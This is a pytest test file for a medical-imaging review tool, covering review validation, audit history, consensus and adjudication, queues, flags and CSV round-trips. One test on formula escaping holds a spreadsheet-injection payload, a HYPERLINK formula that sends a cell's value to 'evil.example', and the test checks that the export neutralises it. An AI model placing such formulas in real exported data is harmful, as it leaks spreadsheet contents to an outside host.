"""Reviews: validation, the append-only audit trail, consensus rules, queue, flags, CSV."""

import csv

import numpy as np
import pytest

from bonescan_core import review as rv


def reading(study, reviewer, label=None, exclude=None, criteria=None, **extra):
    if exclude:
        return rv.Review(study, reviewer, "exclude", exclusion_reason=exclude, **extra)
    default = ("typical_pattern",) if label == "metastatic" else ("no_abnormal_uptake",)
    return rv.Review(study, reviewer, "include", label=label, criteria=criteria or default, **extra)


def test_a_label_needs_a_criterion_of_its_own_side(db, studies):
    with pytest.raises(rv.ReviewError, match="tick at least one criterion"):
        rv.add_review(db, rv.Review(studies[0], "ann", "include", label="metastatic"))
    with pytest.raises(rv.ReviewError, match="belong to the other label"):
        rv.add_review(db, rv.Review(studies[0], "ann", "include", label="metastatic", criteria=("trauma",)))
    with pytest.raises(rv.ReviewError, match="exclusion reason"):
        rv.add_review(db, rv.Review(studies[0], "ann", "exclude"))
    with pytest.raises(rv.ReviewError, match="reviewer name is empty"):
        rv.add_review(db, reading(studies[0], " ", "metastatic"))
    with pytest.raises(rv.ReviewError, match="does not exist"):
        rv.add_review(db, reading(10_000, "ann", "metastatic"))
    assert db["reviews"].count == 0
    # folder labels from `import` are allowed without a criterion
    rv.add_review(db, rv.Review(studies[0], "import", "include", label="metastatic", from_import=True))
    assert db["reviews"].count == 1


def test_a_correction_is_a_new_row_and_the_latest_counts(db, studies):
    rv.add_review(db, reading(studies[0], "ann", "metastatic"))
    rv.add_review(db, reading(studies[0], "ann", "non_metastatic", criteria=("trauma",), note="rib fractures"))
    trail = rv.history(db, studies[0])
    assert [row["label"] for row in trail] == ["metastatic", "non_metastatic"]
    assert trail[1]["criteria"] == "trauma" and trail[1]["note"] == "rib fractures"
    assert trail[0]["created_at"].endswith("Z") and trail[0]["created_at"] <= trail[1]["created_at"]
    assert rv.study_statuses(db)[studies[0]].label == "non_metastatic"


def test_consensus_rules(db, studies):
    a, b, c, d, e, f = studies[:6]
    rv.add_review(db, reading(a, "ann", "metastatic"))
    rv.add_review(db, reading(a, "bob", "metastatic"))  # unanimous
    rv.add_review(db, reading(b, "ann", "metastatic"))
    rv.add_review(db, reading(b, "bob", "non_metastatic"))  # disagreement: waits
    rv.add_review(db, reading(c, "ann", "metastatic"))
    rv.add_review(db, reading(c, "bob", exclude="poor_quality"))  # include vs exclude: waits
    rv.add_review(db, reading(d, "ann", exclude="medical_device"))  # excluded: never trains
    rv.add_review(db, rv.Review(e, "import", "include", label="non_metastatic", from_import=True))  # folder label only
    rv.add_review(db, rv.Review(f, "import", "include", label="non_metastatic", from_import=True))
    rv.add_review(db, reading(f, "ann", "metastatic"))  # a reader's reading replaces the folder label
    statuses = rv.study_statuses(db)
    assert (statuses[a].label, statuses[a].state) == ("metastatic", "agreed")
    assert (statuses[b].label, statuses[b].included, statuses[b].state) == (None, False, "disagreement")
    assert (statuses[c].label, statuses[c].state) == (None, "disagreement")
    assert (statuses[d].label, statuses[d].included, statuses[d].state) == (None, False, "excluded")
    assert (statuses[e].label, statuses[e].included) == ("non_metastatic", True)
    assert statuses[f].label == "metastatic" and statuses[f].readers == {"ann": "metastatic"}
    assert statuses[studies[9]].state == "unread" and not statuses[studies[9]].included

    with pytest.raises(rv.ReviewError, match="not an adjudicator"):
        rv.add_review(db, reading(b, "cat", "metastatic", adjudication=True))
    rv.set_adjudicator(db, "cat")
    rv.add_review(db, reading(b, "cat", "metastatic", adjudication=True))
    rv.add_review(db, reading(c, "cat", exclude="poor_quality", adjudication=True))
    statuses = rv.study_statuses(db)
    assert (statuses[b].label, statuses[b].state) == ("metastatic", "adjudicated")
    assert (statuses[c].label, statuses[c].included) == (None, False)
    assert "cat" not in statuses[b].readers  # a consensus is not a reading
    assert rv.adjudicators(db) == ["cat"]


def test_queue_orders(db, studies):
    rv.add_review(db, reading(studies[0], "ann", "metastatic"))
    rv.add_review(db, reading(studies[1], "ann", "metastatic"))
    rv.add_review(db, reading(studies[1], "bob", "non_metastatic"))
    queue = rv.review_queue(db, "ann", "unread")
    assert queue[:8] == studies[2:] and queue[8:] == studies[:2]
    assert rv.review_queue(db, "ann", "all") == studies
    assert rv.review_queue(db, "ann", "disagreements") == [studies[1]]
    assert rv.review_queue(db, "ann", "flagged") == []
    rv.add_flag(db, studies[3], "model says metastatic with p=0.97", "evaluate")
    assert rv.review_queue(db, "ann", "flagged") == [studies[3]]
    assert rv.open_flags(db) == {studies[3]: [rv.BLIND_FLAG_REASON]}  # a blind reader never sees the model's verdict
    rv.add_review(db, reading(studies[3], "ann", "non_metastatic"))
    assert rv.review_queue(db, "ann", "flagged") == []  # answered by a later reading
    with pytest.raises(ValueError, match="unknown queue order"):
        rv.review_queue(db, "ann", "random")


def test_csv_round_trip_and_bad_rows(db, studies, tmp_path):
    rv.add_review(db, reading(studies[0], "ann", "metastatic", criteria=("typical_pattern", "flare"), confidence=4, note="a, b"))
    rv.add_review(db, reading(studies[1], "bob", exclude="osteomyelitis"))
    rv.add_review(db, reading(studies[2], "bob", "non_metastatic", artifacts=("injection_site",)))
    exported = tmp_path / "reviews.csv"
    assert rv.export_reviews_csv(db, exported) == 3
    before = rv.history(db, studies[0]) + rv.history(db, studies[1]) + rv.history(db, studies[2])

    again = rv.import_reviews_csv(db, exported)
    assert (again.added, again.duplicates, again.errors) == (0, 3, [])

    rows = list(csv.DictReader(exported.open()))
    assert rows[0]["criteria"] == "typical_pattern;flare" and rows[0]["note"] == "a, b"
    sheet = tmp_path / "sheet.csv"
    with sheet.open("w", newline="") as handle:
        writer = csv.DictWriter(handle, fieldnames=["study_id", "reviewer", "decision", "label", "criteria"])
        writer.writeheader()
        writer.writerow({"study_id": studies[5], "reviewer": "cat", "decision": "include", "label": "metastatic", "criteria": "flare"})
        writer.writerow({"study_id": studies[6], "reviewer": "cat", "decision": "include", "label": "metastatic", "criteria": ""})
        writer.writerow({"study_id": "x", "reviewer": "cat", "decision": "include", "label": "metastatic", "criteria": "flare"})
        writer.writerow({"study_id": studies[7], "reviewer": "cat", "decision": "include", "label": "non_metastatic", "criteria": "trauma"})
    result = rv.import_reviews_csv(db, sheet)
    assert result.added == 2 and result.duplicates == 0
    assert [e.split(":")[0] for e in result.errors] == ["line 3", "line 4"]
    assert "tick at least one criterion" in result.errors[0]
    assert rv.study_statuses(db)[studies[7]].label == "non_metastatic"

    fresh_rows = rv.history(db, studies[0]) + rv.history(db, studies[1]) + rv.history(db, studies[2])
    assert fresh_rows == before


def test_csv_missing_columns(db, tmp_path):
    sheet = tmp_path / "bad.csv"
    sheet.write_text("study,who\n1,ann\n")
    with pytest.raises(rv.ReviewError, match="missing columns study_id, reviewer, decision, label, criteria"):
        rv.import_reviews_csv(db, sheet)


def test_model_uncertain_first(db, studies):
    from bonescan_core import db as dbm
    from bonescan_core.ingest import insert_image

    assert rv.review_queue(db, "ann", "uncertain") == studies  # no run yet: by id
    with dbm.write(db):
        images = [insert_image(db, s, np.full((64, 64), i + 1, dtype=np.uint16) + np.eye(64, dtype=np.uint16), "anterior",
                               f"{s}.png", "png") for i, s in enumerate(studies[:3])]
        run = db["runs"].insert({"backbone": "vgg19", "status": "done", "config": "{}", "config_hash": "x",
                                 "created_at": dbm.utc_now(), "threshold": 0.4}).last_pk
        for image, probability in zip(images, (0.95, 0.41, 0.1), strict=True):
            db["predictions"].insert({"run_id": run, "image_id": image, "subset": "test", "label": 1, "probability": probability})
    queue = rv.review_queue(db, "ann", "uncertain")
    assert queue == [studies[1], studies[2], studies[0], *studies[3:]]  # margins 0.01, 0.3, 0.55, then unpredicted by id


def test_csv_export_escapes_formulas_and_import_restores_them(db, studies, tmp_path):
    """A note like =HYPERLINK(...) must not run in the spreadsheet, and must come back intact."""
    from conftest import add_bare_studies

    from bonescan_core import db as dbm

    notes = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "@SUM(A1:A9)", "+1", "-2 cm", "'quoted", "plain, text", "\tindented\r\n"]
    for study, note in zip(studies, notes, strict=False):
        rv.add_review(db, reading(study, "=ann" if study == studies[0] else "bob", "metastatic", note=note))
    exported = tmp_path / "reviews.csv"
    assert rv.export_reviews_csv(db, exported) == len(notes)
    cells = [cell for row in csv.reader(exported.open(newline="")) for cell in row]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert "'=ann" in cells and "'@SUM(A1:A9)" in cells

    with dbm.opened(tmp_path / "other.db") as other:
        add_bare_studies(other, len(studies))
        result = rv.import_reviews_csv(other, exported)
        assert (result.added, result.errors) == (len(notes), [])
        fields = ("study_id", "reviewer", "note", "created_at", "decision", "label", "criteria")
        imported = [{k: row[k] for k in fields} for s in studies for row in rv.history(other, s)]
    original = [{k: row[k] for k in fields} for s in studies for row in rv.history(db, s)]
    assert imported == original


def test_order_is_insertion_order_not_the_stored_time(db, studies):
    """Imported created_at values are data, not order: a sheet cannot date a review into the
    future to hide a later flag, nor into the past to lose to an older reading."""
    rv.add_review(db, reading(studies[0], "ann", "metastatic"), created_at="2099-01-01T00:00:00Z")
    rv.add_flag(db, studies[0], "recheck the spine", "evaluate")
    assert rv.open_flags(db) == {studies[0]: ["recheck the spine"]}, "a review stored before the flag does not answer it"
    rv.add_review(db, reading(studies[0], "ann", "non_metastatic"), created_at="2001-01-01T00:00:00Z")
    assert rv.open_flags(db) == {}, "a review stored after the flag answers it, whatever its time"
    assert rv.study_statuses(db)[studies[0]].readers == {"ann": "non_metastatic"}
    assert [r["label"] for r in rv.history(db, studies[0])] == ["metastatic", "non_metastatic"]
    assert rv.history(db, studies[0])[1]["created_at"] == "2001-01-01T00:00:00Z"  # kept as data


def test_a_review_is_written_with_synchronous_full(db, studies, monkeypatch):
    """A saved review survives a power cut: its commit waits for the disk (synchronous=FULL, 2)."""
    from bonescan_core import db as dbm

    seen = []
    real_write = dbm.write

    def watching_write(database):
        seen.append(database.execute("PRAGMA synchronous").fetchone()[0])
        return real_write(database)

    monkeypatch.setattr(dbm, "write", watching_write)
    rv.add_review(db, reading(studies[0], "ann", "metastatic"))
    rv.add_flag(db, studies[0], "look again", "ann")
    assert seen == [2, 2]
